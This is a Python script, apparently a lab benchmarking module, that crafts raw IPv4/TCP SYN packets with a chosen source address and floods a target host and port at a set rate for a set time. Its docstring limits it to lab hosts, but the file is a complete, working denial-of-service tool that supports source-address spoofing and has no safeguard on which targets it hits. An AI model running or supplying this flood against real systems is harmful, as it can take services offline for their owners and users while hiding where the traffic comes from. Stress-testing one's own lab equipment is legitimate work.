"""`python -m bench.syn_flood SOURCE TARGET PORT RATE SECONDS`: SYNs from one address, from ever other ports.

Only for hosts of a lab: the packets are made here and leave by a raw socket. Prints how many were sent a second.
"""

import socket
import struct
import sys
import time

PORTS = range(1024, 1024 + 32_768)
TICK_S = 0.002


def main(source: str, target: str, port: int, rate: int, seconds: float) -> int:
    packets = [syn(source, target, own, port) for own in PORTS]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as door:
        door.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
        sent, began = 0, time.monotonic()
        while (passed := time.monotonic() - began) < seconds:
            due = min(int(passed * rate), sent + int(rate * TICK_S * 4))  # what was missed is not made up in one burst
            for number in range(sent, due):
                door.sendto(packets[number % len(packets)], (target, 0))
            sent = due
            time.sleep(TICK_S)
    print(int(sent / passed))  # noqa: T201  # this is its output
    return 0


def syn(source: str, target: str, own_port: int, port: int) -> bytes:
    """IPv4 and TCP header; the kernel fills in the length and checksum of the first (raw(7))."""
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0) + addresses
    tcp = struct.pack("!HHIIBBHHH", own_port, port, own_port << 16, 0, 5 << 4, 0x02, 64_240, 0, 0)
    return ip + tcp[:16] + checksum(addresses + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp)) + tcp) + tcp[18:]


def checksum(data: bytes) -> bytes:
    """RFC 1071, of an even number of bytes."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack("!H", ~total & 0xFFFF)


if __name__ == "__main__":
    words = sys.argv[1:]
    sys.exit(main(words[0], words[1], int(words[2]), int(words[3]), float(words[4])))
